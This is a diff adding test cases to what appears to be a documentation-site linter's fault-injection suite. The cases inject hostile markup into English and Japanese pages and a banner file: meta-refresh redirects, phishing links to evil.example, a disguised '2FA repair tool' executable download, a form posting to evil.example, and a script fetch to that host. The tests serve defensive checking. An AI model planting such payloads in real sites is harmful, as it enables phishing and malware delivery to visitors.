@@ -110,6 +110,25 @@ FAULTS = [
     Fault("onclick", append(EN, '<a href="#email" onclick="steal()">Email</a>'), "html-event-handler", EN,
           "onclick="),
     Fault("javascript-url", append(JA, "[クリック](javascript:alert(1))"), "html-javascript-url", JA, "javascript:"),
+    # Issue 13: content that redirects, navigates, downloads or runs code by other ways.
+    Fault("meta-refresh", append(EN, '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
+          "html-element", EN, "<meta http-equiv", message="redirect"),
+    Fault("svg-xlink", append(JA, '<svg width="20" height="20"><a xlink:href="https://evil.example/login">'
+                                  '<text y="15">ログイン</text></a></svg>'), "external-domain", JA, "xlink:href"),
+    Fault("data-download", append(EN, '<a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA"'
+                                      ' download="bitbank-2fa-repair.exe">2FA repair tool</a>'),
+          "link-download", EN, "bitbank-2fa-repair.exe"),
+    Fault("title-meta", append(JA, '<span title="<meta http-equiv=\'refresh\' content=\'0;url=https://evil.example/\'>">'
+                                   "ご注意</span>"), "html-title-markup", JA, "<span title="),
+    Fault("link-title", append(EN, '[FAQ](../faq.md "<form action=\'https://evil.example/\'><input name=p></form>")'),
+          "html-title-markup", EN, '"<form action='),
+    Fault("abbr-title", append(EN, "Two-factor codes: see the 2FA page.\n\n"
+                                   '*[2FA]: <a href="https://evil.example/">two-factor</a>'),
+          "html-title-markup", EN, "*[2FA]:"),
+    Fault("banner-script", lambda root: (root / "data/banner.yml").write_text(
+        (root / "data/banner.yml").read_text(encoding="utf-8").replace("enabled: false", "enabled: true")
+        .replace("ご確認ください。\n", "ご確認ください。<script>fetch('https://evil.example/')</script>\n"),
+        encoding="utf-8"), "build-warning", "data/banner.yml", "<script>", message="Content Security Policy"),
 ]
 
 CONFLICTING = {"bad-yaml"}  # rewrites the front matter that unknown-key rewrites too
